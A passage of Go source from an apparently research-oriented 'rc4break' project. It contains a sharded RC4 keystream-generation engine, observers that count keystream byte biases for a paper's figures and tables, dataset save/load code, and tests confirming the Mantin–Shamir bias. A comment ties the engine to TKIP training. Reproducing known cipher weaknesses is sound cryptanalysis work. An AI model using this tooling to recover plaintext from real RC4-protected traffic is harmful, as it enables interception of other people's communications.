// order, before generation starts), and merges the sinks in shard order.
// The merged sink is returned; it is nil when shards is empty.
//
// ctx cancellation aborts the run and returns the context error. A progress
// callback attached with WithProgress is invoked as keys complete.
func (e Engine) Run(ctx context.Context, st Stream, shards []Shard, newSink func(shard int) Sink) (Sink, error) {
	st = st.withDefaults()
	if err := st.validate(); err != nil {
		return nil, err
	}
	if ctx == nil {
		ctx = context.Background()
	}
	backend, err := e.Backend.Resolve()
	if err != nil {
		return nil, err
	}
	if len(shards) == 0 {
		return nil, nil
	}
	sinks := make([]Sink, len(shards))
	for i := range sinks {
		sinks[i] = newSink(i)
	}

	var total uint64
	for _, sh := range shards {
		total += sh.Keys
	}
	prog := newProgressMeter(ctx, total)

	// Tracing rides the context: with no journal attached, every StartSpan
	// below is one nil check. Spans are per-run and per-shard — never
	// per-window or per-key, which would sit inside the keystream hot loop.
	// bytesPerKey is the delivered window volume (overlap prefix + all
	// fresh block bytes), the attr throughput investigations divide by.
	bytesPerKey := uint64(st.Overlap) + uint64(st.Blocks)*uint64(st.BlockLen)
	ctx, runSpan := obs.StartSpan(ctx, "engine.run",
		obs.Int("shards", int64(len(shards))),
		obs.U64("keys", total),
		obs.U64("bytes", total*bytesPerKey),
		obs.Str("backend", backend.String()))
	defer runSpan.End()

	workers := e.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(shards) {
		workers = len(shards)
	}

	idx := make(chan int)
	errs := make([]error, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := range idx {
				if errs[w] != nil {
					continue // drain the queue after a failure
				}
				_, ss := obs.StartSpan(ctx, "engine.shard",
					obs.U64("lane", shards[i].Lane),
					obs.U64("keys", shards[i].Keys),
					obs.U64("bytes", shards[i].Keys*bytesPerKey))
				ss.SetTrack(int64(i))
				errs[w] = runShard(ctx, st, shards[i], sinks[i], prog, backend)
				ss.End()
			}
		}(w)
	}
	for i := range shards {
		idx <- i
	}
	close(idx)
	wg.Wait()

	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	merged := sinks[0]
	for _, s := range sinks[1:] {
		if err := merged.Merge(s); err != nil {
			return nil, err
		}
	}
	return merged, nil
}

// cancelCheckBlocks is how many windows a worker generates between context
// checks inside a single key. Long-term keys can span gigabytes of
// keystream, so per-key checks alone would not keep cancellation responsive.
const cancelCheckBlocks = 1024

// runShard generates one shard's keys and feeds the windows to its sink,
// through whichever kernel family the resolved backend names.
func runShard(ctx context.Context, st Stream, sh Shard, sink Sink, prog *progressMeter, backend rc4.Backend) error {
	if backend == rc4.BackendMulti {
		return runShardMulti(ctx, st, sh, sink, prog)
	}
	src := NewKeySource(st.Master, sh.Lane)
	key := make([]byte, st.KeyLen)
	win := make([]byte, st.Overlap+st.BlockLen)
	var c rc4.Cipher
	for k := uint64(0); k < sh.Keys; k++ {
		if err := ctx.Err(); err != nil {
			return err
		}
		src.NextKey(key)
		if st.KeyDeriver != nil {
			st.KeyDeriver(sh.FirstKey+k, key)
		}
		if err := c.Rekey(key); err != nil {
			return err
		}
		// One fused call covers the per-key drop plus the first window
		// (overlap prefix and first block alike are fresh bytes).
		c.SkipKeystream(st.Skip, win)
		sink.Window(win)
		for b := 1; b < st.Blocks; b++ {
			if b%cancelCheckBlocks == 0 {
				if err := ctx.Err(); err != nil {
					return err
				}
			}
			copy(win, win[st.BlockLen:])
			c.Keystream(win[st.Overlap:])
			sink.Window(win)
		}
		prog.done()
	}
	return nil
}

// runShardMulti is runShard on the batched rc4 backend: it fills
// rc4.MultiLanes key-lanes at a time through one MultiCipher, so the kernel
// amortizes loop and index overhead across the whole batch. Keys are drawn
// from the KeySource in exactly the scalar order; a tail batch shorter than
// the lane count pads the spare lanes by re-keying them with the batch's
// first key *without* drawing from the source, and their output is never
// delivered — so the keystream bytes any sink sees are bitwise identical to
// the scalar path, merely interleaved across the batch (see Sink).
func runShardMulti(ctx context.Context, st Stream, sh Shard, sink Sink, prog *progressMeter) error {
	src := NewKeySource(st.Master, sh.Lane)
	m := rc4.NewMulti()
	lanes := uint64(m.Lanes())
	keys := make([][]byte, lanes)
	wins := make([][]byte, lanes)
	tails := make([][]byte, lanes)
	winLen := st.Overlap + st.BlockLen
	buf := make([]byte, int(lanes)*winLen)
	for l := range keys {
		keys[l] = make([]byte, st.KeyLen)
		wins[l] = buf[l*winLen : (l+1)*winLen]
		tails[l] = wins[l][st.Overlap:]
	}
	// Keep cancellation about as responsive as the scalar path's
	// per-cancelCheckBlocks-windows check: one batched round generates
	// lanes windows at once.
	checkEvery := cancelCheckBlocks / int(lanes)
	if checkEvery == 0 {
		checkEvery = 1
	}
	for k := uint64(0); k < sh.Keys; k += lanes {
		if err := ctx.Err(); err != nil {
			return err
		}
		n := sh.Keys - k
		if n > lanes {
			n = lanes
		}
		for b := uint64(0); b < n; b++ {
			src.NextKey(keys[b])
			if st.KeyDeriver != nil {
				st.KeyDeriver(sh.FirstKey+k+b, keys[b])
			}
		}
		for b := n; b < lanes; b++ {
			copy(keys[b], keys[0]) // pad lanes: no source draw, output dropped
		}
		if err := m.Rekey(keys); err != nil {
			return err
		}
		m.SkipKeystream(st.Skip, wins)
		for b := uint64(0); b < n; b++ {
			sink.Window(wins[b])
		}
		for blk := 1; blk < st.Blocks; blk++ {
			if blk%checkEvery == 0 {
				if err := ctx.Err(); err != nil {
					return err
				}
			}
			// Every lane advances — padded lanes too, to keep the
			// batch in lockstep — but only real lanes deliver.
			for l := range wins {
				copy(wins[l], wins[l][st.BlockLen:])
			}
			m.Keystream(tails)
			for b := uint64(0); b < n; b++ {
				sink.Window(wins[b])
			}
		}
		for b := uint64(0); b < n; b++ {
			prog.done()
		}
	}
	return nil
}

// progressKey is the context key WithProgress stores the callback under.
type progressKey struct{}

// Progress receives generation progress: keys completed so far out of the
// run's total. It may be invoked from multiple worker goroutines, but calls
// are serialized — implementations need no locking of their own.
type Progress func(keysDone, keysTotal uint64)

// WithProgress returns a context that carries a progress callback for engine
// runs (and everything built on them: Run, the long-term collectors, TKIP
// training). The callback fires roughly progressGranularity times per run
// plus once at completion.
func WithProgress(ctx context.Context, fn Progress) context.Context {
	return context.WithValue(ctx, progressKey{}, fn)
}

// progressGranularity is roughly how many times per run the progress
// callback fires (at most once per completed key).
const progressGranularity = 256

// progressMeter turns per-key completions into serialized Progress calls.
type progressMeter struct {
	fn       Progress
	total    uint64
	every    uint64
	count    atomic.Uint64
	mu       sync.Mutex
	reported uint64 // highest done value delivered, guarded by mu
}

func newProgressMeter(ctx context.Context, total uint64) *progressMeter {
	fn, _ := ctx.Value(progressKey{}).(Progress)
	if fn == nil {
		return nil
	}
	every := total / progressGranularity
	if every == 0 {
		every = 1
	}
	return &progressMeter{fn: fn, total: total, every: every}
}

// done records one completed key, invoking the callback on every crossing of
// the reporting granularity and at the final key. Delivered counts are
// strictly increasing: a worker that crossed an earlier threshold but lost
// the race for the lock stays silent rather than reporting stale progress.
func (p *progressMeter) done() {
	if p == nil {
		return
	}
	d := p.count.Add(1)
	if d%p.every == 0 || d == p.total {
		p.mu.Lock()
		if d > p.reported {
			p.reported = d
			p.fn(d, p.total)
		}
		p.mu.Unlock()
	}
}

// errIncompatibleSink is returned by sink Merge implementations on a type or
// shape mismatch.
var errIncompatibleSink = errors.New("dataset: incompatible sink merge")
