package dataset

import (
	"bytes"
	"encoding/gob"
	"errors"
	"fmt"
	"io"
	"os"
	"sort"

	"rc4break/internal/snapshot"
)

// Observer consumes keystreams during generation and merges with peers from
// other workers. Implementations must make Observe cheap: it runs once per
// generated keystream in the hot loop.
type Observer interface {
	// Observe folds one keystream into the statistics. The slice is only
	// valid for the duration of the call. Keystream bytes are 0-indexed in
	// the slice but 1-indexed in the paper's Z_r notation: ks[0] is Z1.
	Observe(ks []byte)
	// Merge adds the counts of other (same concrete type and shape) into
	// the receiver.
	Merge(other Observer) error
	// KeystreamLen reports how many keystream bytes Observe needs.
	KeystreamLen() int
}

// SingleByteCounts estimates Pr[Zr = v] for r = 1..Positions. This is the
// dataset behind Figure 6 and the aggregation of eq. 6.
type SingleByteCounts struct {
	Positions int
	Counts    []uint64 // [pos][val], row-major, pos 0 == Z1
	Keys      uint64
}

// NewSingleByteCounts allocates counters for the first positions keystream
// bytes.
func NewSingleByteCounts(positions int) *SingleByteCounts {
	return &SingleByteCounts{
		Positions: positions,
		Counts:    make([]uint64, positions*256),
	}
}

// Observe implements Observer.
func (s *SingleByteCounts) Observe(ks []byte) {
	for r := 0; r < s.Positions; r++ {
		s.Counts[r*256+int(ks[r])]++
	}
	s.Keys++
}

// Merge implements Observer.
func (s *SingleByteCounts) Merge(other Observer) error {
	o, ok := other.(*SingleByteCounts)
	if !ok || o.Positions != s.Positions {
		return errors.New("dataset: incompatible SingleByteCounts merge")
	}
	for i, v := range o.Counts {
		s.Counts[i] += v
	}
	s.Keys += o.Keys
	return nil
}

// KeystreamLen implements Observer.
func (s *SingleByteCounts) KeystreamLen() int { return s.Positions }

// Count returns the observation count for Z_pos = val (pos is 1-indexed).
func (s *SingleByteCounts) Count(pos int, val byte) uint64 {
	return s.Counts[(pos-1)*256+int(val)]
}

// Position returns the 256 counts for Z_pos (1-indexed).
func (s *SingleByteCounts) Position(pos int) []uint64 {
	return s.Counts[(pos-1)*256 : pos*256]
}

// Probability estimates Pr[Z_pos = val].
func (s *SingleByteCounts) Probability(pos int, val byte) float64 {
	if s.Keys == 0 {
		return 0
	}
	return float64(s.Count(pos, val)) / float64(s.Keys)
}

// Distribution returns the estimated probability vector of Z_pos.
func (s *SingleByteCounts) Distribution(pos int) []float64 {
	out := make([]float64, 256)
	if s.Keys == 0 {
		return out
	}
	row := s.Position(pos)
	inv := 1 / float64(s.Keys)
	for v, c := range row {
		out[v] = float64(c) * inv
	}
	return out
}

// DigraphCounts estimates Pr[Zr = x ∧ Zr+1 = y] for r = 1..Positions — the
// consec512-style dataset (§3.2) behind Table 2's consecutive biases and
// Figure 4.
type DigraphCounts struct {
	Positions int
	Counts    []uint64 // [pos][x*256+y]
	Keys      uint64
}

// NewDigraphCounts allocates digraph counters for positions 1..positions
// (each needs keystream bytes r and r+1).
func NewDigraphCounts(positions int) *DigraphCounts {
	return &DigraphCounts{
		Positions: positions,
		Counts:    make([]uint64, positions*65536),
	}
}

// Observe implements Observer.
func (d *DigraphCounts) Observe(ks []byte) {
	for r := 0; r < d.Positions; r++ {
		d.Counts[r*65536+int(ks[r])*256+int(ks[r+1])]++
	}
	d.Keys++
}

// Merge implements Observer.
func (d *DigraphCounts) Merge(other Observer) error {
	o, ok := other.(*DigraphCounts)
	if !ok || o.Positions != d.Positions {
		return errors.New("dataset: incompatible DigraphCounts merge")
	}
	for i, v := range o.Counts {
		d.Counts[i] += v
	}
	d.Keys += o.Keys
	return nil
}

// KeystreamLen implements Observer.
func (d *DigraphCounts) KeystreamLen() int { return d.Positions + 1 }

// Count returns the count of (Z_pos, Z_pos+1) = (x, y), pos 1-indexed.
func (d *DigraphCounts) Count(pos int, x, y byte) uint64 {
	return d.Counts[(pos-1)*65536+int(x)*256+int(y)]
}

// Table returns the 65536-cell contingency table at pos (1-indexed),
// row-major in x.
func (d *DigraphCounts) Table(pos int) []uint64 {
	return d.Counts[(pos-1)*65536 : pos*65536]
}

// Probability estimates Pr[Z_pos = x ∧ Z_pos+1 = y].
func (d *DigraphCounts) Probability(pos int, x, y byte) float64 {
	if d.Keys == 0 {
		return 0
	}
	return float64(d.Count(pos, x, y)) / float64(d.Keys)
}

// Marginals returns the single-byte marginal counts of Z_pos and Z_pos+1
// implied by the digraph table — used to compute the paper's relative bias
// q against the single-byte-expected probability (§3.1).
func (d *DigraphCounts) Marginals(pos int) (first, second [256]uint64) {
	t := d.Table(pos)
	for x := 0; x < 256; x++ {
		for y := 0; y < 256; y++ {
			c := t[x*256+y]
			first[x] += c
			second[y] += c
		}
	}
	return first, second
}

// PairCell identifies one targeted cell Pr[Za = X ∧ Zb = Y] (a, b
// 1-indexed, a < b). Targeted counting is how we afford first16-style
// statistics: instead of the paper's full 16×256×65536 joint (2^44 keys,
// 9 CPU-years), we count exactly the cells a figure or table needs.
type PairCell struct {
	A, B int
	X, Y byte
}

// TargetedPairs counts a fixed set of pair cells.
type TargetedPairs struct {
	Cells  []PairCell
	Counts []uint64
	Keys   uint64
	maxPos int
}

// NewTargetedPairs allocates counters for the given cells.
func NewTargetedPairs(cells []PairCell) (*TargetedPairs, error) {
	maxPos := 0
	for _, c := range cells {
		if c.A < 1 || c.B <= c.A {
			return nil, fmt.Errorf("dataset: bad pair cell a=%d b=%d (need 1 <= a < b)", c.A, c.B)
		}
		if c.B > maxPos {
			maxPos = c.B
		}
	}
	return &TargetedPairs{
		Cells:  append([]PairCell(nil), cells...),
		Counts: make([]uint64, len(cells)),
		maxPos: maxPos,
	}, nil
}

// Observe implements Observer.
func (t *TargetedPairs) Observe(ks []byte) {
	for i, c := range t.Cells {
		if ks[c.A-1] == c.X && ks[c.B-1] == c.Y {
			t.Counts[i]++
		}
	}
	t.Keys++
}

// Merge implements Observer.
func (t *TargetedPairs) Merge(other Observer) error {
	o, ok := other.(*TargetedPairs)
	if !ok || len(o.Cells) != len(t.Cells) {
		return errors.New("dataset: incompatible TargetedPairs merge")
	}
	for i, v := range o.Counts {
		t.Counts[i] += v
	}
	t.Keys += o.Keys
	return nil
}

// KeystreamLen implements Observer.
func (t *TargetedPairs) KeystreamLen() int { return t.maxPos }

// Probability estimates Pr[cell i].
func (t *TargetedPairs) Probability(i int) float64 {
	if t.Keys == 0 {
		return 0
	}
	return float64(t.Counts[i]) / float64(t.Keys)
}

// EqualityCounts estimates Pr[Za = Zb] for a fixed list of position pairs —
// the shape of eqs. 3–5 (Z1=Z3, Z1=Z4, Z2=Z4) and the Pr[Zr = Zr+1] family.
type EqualityCounts struct {
	PairsA, PairsB []int // 1-indexed positions
	Counts         []uint64
	Keys           uint64
	maxPos         int
}

// NewEqualityCounts allocates equality counters. as[i] and bs[i] are the
// 1-indexed positions compared.
func NewEqualityCounts(as, bs []int) (*EqualityCounts, error) {
	if len(as) != len(bs) {
		return nil, errors.New("dataset: position list length mismatch")
	}
	maxPos := 0
	for i := range as {
		if as[i] < 1 || bs[i] < 1 || as[i] == bs[i] {
			return nil, fmt.Errorf("dataset: bad equality pair (%d,%d)", as[i], bs[i])
		}
		if as[i] > maxPos {
			maxPos = as[i]
		}
		if bs[i] > maxPos {
			maxPos = bs[i]
		}
	}
	return &EqualityCounts{
		PairsA: append([]int(nil), as...),
		PairsB: append([]int(nil), bs...),
		Counts: make([]uint64, len(as)),
		maxPos: maxPos,
	}, nil
}

// Observe implements Observer.
func (e *EqualityCounts) Observe(ks []byte) {
	for i := range e.PairsA {
		if ks[e.PairsA[i]-1] == ks[e.PairsB[i]-1] {
			e.Counts[i]++
		}
	}
	e.Keys++
}

// Merge implements Observer.
func (e *EqualityCounts) Merge(other Observer) error {
	o, ok := other.(*EqualityCounts)
	if !ok || len(o.Counts) != len(e.Counts) {
		return errors.New("dataset: incompatible EqualityCounts merge")
	}
	for i, v := range o.Counts {
		e.Counts[i] += v
	}
	e.Keys += o.Keys
	return nil
}

// KeystreamLen implements Observer.
func (e *EqualityCounts) KeystreamLen() int { return e.maxPos }

// Probability estimates Pr[Za = Zb] for pair i.
func (e *EqualityCounts) Probability(i int) float64 {
	if e.Keys == 0 {
		return 0
	}
	return float64(e.Counts[i]) / float64(e.Keys)
}

// Multi fans one keystream out to several observers.
type Multi struct {
	Observers []Observer
}

// Observe implements Observer.
func (m *Multi) Observe(ks []byte) {
	for _, o := range m.Observers {
		o.Observe(ks)
	}
}

// Merge implements Observer.
func (m *Multi) Merge(other Observer) error {
	o, ok := other.(*Multi)
	if !ok || len(o.Observers) != len(m.Observers) {
		return errors.New("dataset: incompatible Multi merge")
	}
	for i := range m.Observers {
		if err := m.Observers[i].Merge(o.Observers[i]); err != nil {
			return err
		}
	}
	return nil
}

// KeystreamLen implements Observer.
func (m *Multi) KeystreamLen() int {
	max := 0
	for _, o := range m.Observers {
		if l := o.KeystreamLen(); l > max {
			max = l
		}
	}
	return max
}

// ObserverSnapshotKind tags persisted observer datasets inside the shared
// snapshot envelope.
const ObserverSnapshotKind = "rc4break.dataset.observer.v1"

// Save serializes an observer's concrete value inside the shared snapshot
// envelope: magic marker, format version, kind, gob payload, and a CRC-64
// trailer. A file from a future incompatible layout therefore fails with an
// explicit version message instead of an opaque gob decode error, and
// truncation or bit flips are caught before the decoder runs. The
// cmd/biasgen tool uses this to persist datasets for later analysis by
// cmd/biastest.
func Save(w io.Writer, obs Observer) error {
	payload, err := encodeObserverPayload(obs, nil)
	if err != nil {
		return err
	}
	return snapshot.Write(w, ObserverSnapshotKind, payload)
}

// SaveFile atomically persists an observer at path (temp file + rename), so
// an interrupted checkpoint never tears an existing dataset.
func SaveFile(path string, obs Observer) error {
	payload, err := encodeObserverPayload(obs, nil)
	if err != nil {
		return err
	}
	return snapshot.WriteFile(path, ObserverSnapshotKind, payload)
}

// SaveFileMeta is SaveFile with a generation-parameter record appended to
// the payload. Checkpointed generation (cmd/biasgen) stores its seed, lane
// base, and chunking there so a resume under different flags is rejected
// instead of silently mixing incompatible key populations. Files written
// with meta stay readable by Load/LoadFile — the trailing record is simply
// not consumed.
func SaveFileMeta(path string, obs Observer, meta map[string]uint64) error {
	payload, err := encodeObserverPayload(obs, meta)
	if err != nil {
		return err
	}
	return snapshot.WriteFile(path, ObserverSnapshotKind, payload)
}

func encodeObserverPayload(obs Observer, meta map[string]uint64) ([]byte, error) {
	switch obs.(type) {
	case *SingleByteCounts, *DigraphCounts, *TargetedPairs, *EqualityCounts:
	default:
		return nil, fmt.Errorf("dataset: cannot save observer type %T", obs)
	}
	var payload bytes.Buffer
	enc := gob.NewEncoder(&payload)
	if err := enc.Encode(typeName(obs)); err != nil {
		return nil, err
	}
	if err := enc.Encode(obs); err != nil {
		return nil, err
	}
	if meta != nil {
		// Gob encodes maps in random iteration order, which would make two
		// identical checkpoints differ byte for byte; a sorted pair list
		// keeps serialization deterministic.
		pairs := make([]metaPair, 0, len(meta))
		for k, v := range meta {
			pairs = append(pairs, metaPair{K: k, V: v})
		}
		sort.Slice(pairs, func(i, j int) bool { return pairs[i].K < pairs[j].K })
		if err := enc.Encode(pairs); err != nil {
			return nil, err
		}
	}
	return payload.Bytes(), nil
}

// metaPair is the deterministic wire form of one generation parameter.
type metaPair struct {
	K string
	V uint64
}

// Load deserializes an observer written by Save. Enveloped files are
// checksum-verified and version-checked; legacy pre-envelope gob streams
// (written before the format marker existed) still load.
func Load(r io.Reader) (Observer, error) {
	obs, _, err := loadWithMeta(r)
	return obs, err
}

// LoadFile loads an observer dataset from path (enveloped or legacy).
func LoadFile(path string) (Observer, error) {
	obs, _, err := LoadFileMeta(path)
	return obs, err
}

// LoadFileMeta loads an observer dataset plus the generation-parameter
// record written by SaveFileMeta. meta is nil when the file carries none
// (plain Save/SaveFile output or legacy streams).
func LoadFileMeta(path string) (Observer, map[string]uint64, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, nil, err
	}
	defer f.Close()
	return loadWithMeta(f)
}

// loadWithMeta is the single format-dispatch path behind Load and
// LoadFileMeta: sniff for the envelope, verify kind, then decode the
// observer and the optional trailing parameter record.
func loadWithMeta(r io.Reader) (Observer, map[string]uint64, error) {
	replay, isEnvelope, err := snapshot.Sniff(r)
	if err != nil {
		return nil, nil, err
	}
	var dec *gob.Decoder
	if isEnvelope {
		kind, payload, err := snapshot.Read(replay)
		if err != nil {
			return nil, nil, err
		}
		if kind != ObserverSnapshotKind {
			return nil, nil, fmt.Errorf("dataset: file holds %q, not an observer dataset", kind)
		}
		dec = gob.NewDecoder(bytes.NewReader(payload))
	} else {
		dec = gob.NewDecoder(replay)
	}
	obs, err := decodeObserver(dec)
	if err != nil {
		return nil, nil, err
	}
	var pairs []metaPair
	if err := dec.Decode(&pairs); err != nil {
		return obs, nil, nil // absent or legacy: not an error
	}
	meta := make(map[string]uint64, len(pairs))
	for _, p := range pairs {
		meta[p.K] = p.V
	}
	return obs, meta, nil
}

func decodeObserver(dec *gob.Decoder) (Observer, error) {
	var name string
	if err := dec.Decode(&name); err != nil {
		return nil, err
	}
	var obs Observer
	switch name {
	case "single":
		obs = &SingleByteCounts{}
	case "digraph":
		obs = &DigraphCounts{}
	case "pairs":
		obs = &TargetedPairs{}
	case "equality":
		obs = &EqualityCounts{}
	default:
		return nil, fmt.Errorf("dataset: unknown observer type %q", name)
	}
	if err := dec.Decode(obs); err != nil {
		return nil, err
	}
	return obs, nil
}

// KeysObserved reports how many keystreams an observer has folded in — the
// resume logic of chunked generation reads it to find where a checkpoint
// left off.
func KeysObserved(obs Observer) uint64 {
	switch o := obs.(type) {
	case *SingleByteCounts:
		return o.Keys
	case *DigraphCounts:
		return o.Keys
	case *TargetedPairs:
		return o.Keys
	case *EqualityCounts:
		return o.Keys
	}
	return 0
}

func typeName(obs Observer) string {
	switch obs.(type) {
	case *SingleByteCounts:
		return "single"
	case *DigraphCounts:
		return "digraph"
	case *TargetedPairs:
		return "pairs"
	case *EqualityCounts:
		return "equality"
	}
	return "unknown"
}
