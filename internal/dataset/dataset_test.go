package dataset

import (
	"bytes"
	"context"
	"testing"

	"rc4break/internal/rc4"
	"rc4break/internal/stats"
)

func rc4mustNew(key []byte) *rc4.Cipher { return rc4.MustNew(key) }

func TestKeySourceDeterministic(t *testing.T) {
	var master [16]byte
	master[0] = 0x42
	a := NewKeySource(master, 3)
	b := NewKeySource(master, 3)
	ka, kb := make([]byte, 16), make([]byte, 16)
	for i := 0; i < 10; i++ {
		a.NextKey(ka)
		b.NextKey(kb)
		if !bytes.Equal(ka, kb) {
			t.Fatal("same lane diverged")
		}
	}
	c := NewKeySource(master, 4)
	kc := make([]byte, 16)
	c.NextKey(kc)
	a2 := NewKeySource(master, 3)
	a2.NextKey(ka)
	if bytes.Equal(ka, kc) {
		t.Fatal("different lanes produced identical first key")
	}
}

func TestKeySourceVariedLengths(t *testing.T) {
	src := NewKeySource([16]byte{1}, 0)
	k8 := make([]byte, 8)
	k32 := make([]byte, 32)
	src.NextKey(k8)
	src.NextKey(k32)
	zero := make([]byte, 32)
	if bytes.Equal(k32, zero) {
		t.Fatal("key is all zeros")
	}
}

func TestSingleByteCountsObserveMerge(t *testing.T) {
	a := NewSingleByteCounts(4)
	b := NewSingleByteCounts(4)
	a.Observe([]byte{1, 2, 3, 4})
	a.Observe([]byte{1, 9, 9, 9})
	b.Observe([]byte{1, 2, 0, 0})
	if err := a.Merge(b); err != nil {
		t.Fatal(err)
	}
	if a.Keys != 3 {
		t.Fatalf("keys = %d, want 3", a.Keys)
	}
	if got := a.Count(1, 1); got != 3 {
		t.Errorf("Count(1,1) = %d, want 3", got)
	}
	if got := a.Count(2, 2); got != 2 {
		t.Errorf("Count(2,2) = %d, want 2", got)
	}
	if p := a.Probability(1, 1); p != 1.0 {
		t.Errorf("Probability(1,1) = %v, want 1", p)
	}
	dist := a.Distribution(2)
	if dist[2] != 2.0/3 || dist[9] != 1.0/3 {
		t.Errorf("Distribution(2) wrong: %v %v", dist[2], dist[9])
	}
	// Incompatible merge.
	c := NewSingleByteCounts(5)
	if err := a.Merge(c); err == nil {
		t.Error("incompatible merge accepted")
	}
}

func TestDigraphCountsObserveMerge(t *testing.T) {
	d := NewDigraphCounts(3)
	if d.KeystreamLen() != 4 {
		t.Fatalf("KeystreamLen = %d, want 4", d.KeystreamLen())
	}
	d.Observe([]byte{10, 20, 10, 20})
	d.Observe([]byte{10, 20, 30, 40})
	if got := d.Count(1, 10, 20); got != 2 {
		t.Errorf("Count(1,10,20) = %d, want 2", got)
	}
	if got := d.Count(3, 30, 40); got != 1 {
		t.Errorf("Count(3,30,40) = %d, want 1", got)
	}
	first, second := d.Marginals(2)
	if first[20] != 2 || second[10] != 1 || second[30] != 1 {
		t.Error("marginals wrong")
	}
	if p := d.Probability(1, 10, 20); p != 1.0 {
		t.Errorf("Probability = %v, want 1", p)
	}
	e := NewDigraphCounts(2)
	if err := d.Merge(e); err == nil {
		t.Error("incompatible merge accepted")
	}
}

func TestTargetedPairs(t *testing.T) {
	cells := []PairCell{
		{A: 1, B: 2, X: 0, Y: 0},
		{A: 2, B: 4, X: 7, Y: 9},
	}
	tp, err := NewTargetedPairs(cells)
	if err != nil {
		t.Fatal(err)
	}
	if tp.KeystreamLen() != 4 {
		t.Fatalf("KeystreamLen = %d, want 4", tp.KeystreamLen())
	}
	tp.Observe([]byte{0, 0, 5, 5})
	tp.Observe([]byte{1, 7, 5, 9})
	if tp.Counts[0] != 1 || tp.Counts[1] != 1 {
		t.Errorf("counts = %v", tp.Counts)
	}
	if p := tp.Probability(0); p != 0.5 {
		t.Errorf("Probability(0) = %v, want 0.5", p)
	}
	if _, err := NewTargetedPairs([]PairCell{{A: 2, B: 2}}); err == nil {
		t.Error("a==b accepted")
	}
	if _, err := NewTargetedPairs([]PairCell{{A: 0, B: 2}}); err == nil {
		t.Error("a=0 accepted")
	}
}

func TestEqualityCounts(t *testing.T) {
	eq, err := NewEqualityCounts([]int{1, 1}, []int{3, 4})
	if err != nil {
		t.Fatal(err)
	}
	eq.Observe([]byte{5, 0, 5, 5})
	eq.Observe([]byte{5, 0, 6, 5})
	if eq.Counts[0] != 1 || eq.Counts[1] != 2 {
		t.Errorf("counts = %v", eq.Counts)
	}
	if p := eq.Probability(1); p != 1.0 {
		t.Errorf("Probability(1) = %v", p)
	}
	if _, err := NewEqualityCounts([]int{1}, []int{1}); err == nil {
		t.Error("a==b accepted")
	}
	if _, err := NewEqualityCounts([]int{1, 2}, []int{3}); err == nil {
		t.Error("ragged lists accepted")
	}
}

func TestRunRejectsBadConfig(t *testing.T) {
	if _, err := Run(Config{Keys: 0}, func() Observer { return NewSingleByteCounts(1) }); err == nil {
		t.Error("zero keys accepted")
	}
	if _, err := Run(Config{Keys: 10, KeyLen: 300}, func() Observer { return NewSingleByteCounts(1) }); err == nil {
		t.Error("bad key length accepted")
	}
}

func TestRunDeterministicAcrossWorkerCounts(t *testing.T) {
	// The per-lane key derivation means total counts are identical no
	// matter how work is split... only if lanes are fixed per worker and
	// key counts per lane match. With different worker counts the key sets
	// differ, so instead check determinism for the same worker count.
	cfg := Config{Keys: 2000, Workers: 4}
	a, err := Run(cfg, func() Observer { return NewSingleByteCounts(8) })
	if err != nil {
		t.Fatal(err)
	}
	b, err := Run(cfg, func() Observer { return NewSingleByteCounts(8) })
	if err != nil {
		t.Fatal(err)
	}
	sa, sb := a.(*SingleByteCounts), b.(*SingleByteCounts)
	if sa.Keys != sb.Keys || sa.Keys != 2000 {
		t.Fatalf("keys %d/%d, want 2000", sa.Keys, sb.Keys)
	}
	for i := range sa.Counts {
		if sa.Counts[i] != sb.Counts[i] {
			t.Fatal("same config produced different counts")
		}
	}
}

func TestRunFindsMantinShamirBias(t *testing.T) {
	// End-to-end §3 pipeline: generate a dataset, run the chi-squared test,
	// confirm Z2 is biased and that Pr[Z2=0] ≈ 2^-7.
	obs, err := Run(Config{Keys: 1 << 18}, func() Observer { return NewSingleByteCounts(2) })
	if err != nil {
		t.Fatal(err)
	}
	s := obs.(*SingleByteCounts)
	res, err := stats.ChiSquareUniform(s.Position(2))
	if err != nil {
		t.Fatal(err)
	}
	if !res.Rejected() {
		t.Errorf("Z2 uniformity not rejected: p=%g", res.P)
	}
	p := s.Probability(2, 0)
	if p < 1.7/256 || p > 2.3/256 {
		t.Errorf("Pr[Z2=0] = %v, want ≈ 2/256", p)
	}
}

func TestRunSkip(t *testing.T) {
	// With Skip=1, observed "Z1" is actually Z2, so the Mantin–Shamir bias
	// appears at observed position 1.
	obs, err := Run(Config{Keys: 1 << 17, Skip: 1}, func() Observer { return NewSingleByteCounts(1) })
	if err != nil {
		t.Fatal(err)
	}
	s := obs.(*SingleByteCounts)
	if p := s.Probability(1, 0); p < 1.7/256 {
		t.Errorf("Skip not honored: Pr = %v, want ≈ 2/256", p)
	}
}

func TestRunKeyDeriver(t *testing.T) {
	// Force every key identical: every keystream identical, so the count
	// of Z1's value must equal the number of keys.
	fixed := []byte("0123456789abcdef")
	obs, err := Run(Config{Keys: 100, KeyDeriver: func(_ uint64, key []byte) {
		copy(key, fixed)
	}}, func() Observer { return NewSingleByteCounts(1) })
	if err != nil {
		t.Fatal(err)
	}
	s := obs.(*SingleByteCounts)
	var max uint64
	for _, c := range s.Position(1) {
		if c > max {
			max = c
		}
	}
	if max != 100 {
		t.Errorf("KeyDeriver not applied: max count %d, want 100", max)
	}
}

func TestMultiObserver(t *testing.T) {
	single := NewSingleByteCounts(2)
	eq, _ := NewEqualityCounts([]int{1}, []int{2})
	m := &Multi{Observers: []Observer{single, eq}}
	if m.KeystreamLen() != 2 {
		t.Fatalf("KeystreamLen = %d", m.KeystreamLen())
	}
	m.Observe([]byte{3, 3})
	if single.Keys != 1 || eq.Counts[0] != 1 {
		t.Error("Multi did not fan out")
	}
	m2 := &Multi{Observers: []Observer{NewSingleByteCounts(2), mustEq(t)}}
	m2.Observe([]byte{3, 4})
	if err := m.Merge(m2); err != nil {
		t.Fatal(err)
	}
	if single.Keys != 2 {
		t.Error("Multi merge failed")
	}
}

func mustEq(t *testing.T) *EqualityCounts {
	eq, err := NewEqualityCounts([]int{1}, []int{2})
	if err != nil {
		t.Fatal(err)
	}
	return eq
}

func TestSaveLoadRoundTrip(t *testing.T) {
	s := NewSingleByteCounts(3)
	s.Observe([]byte{1, 2, 3})
	s.Observe([]byte{4, 5, 6})
	var buf bytes.Buffer
	if err := Save(&buf, s); err != nil {
		t.Fatal(err)
	}
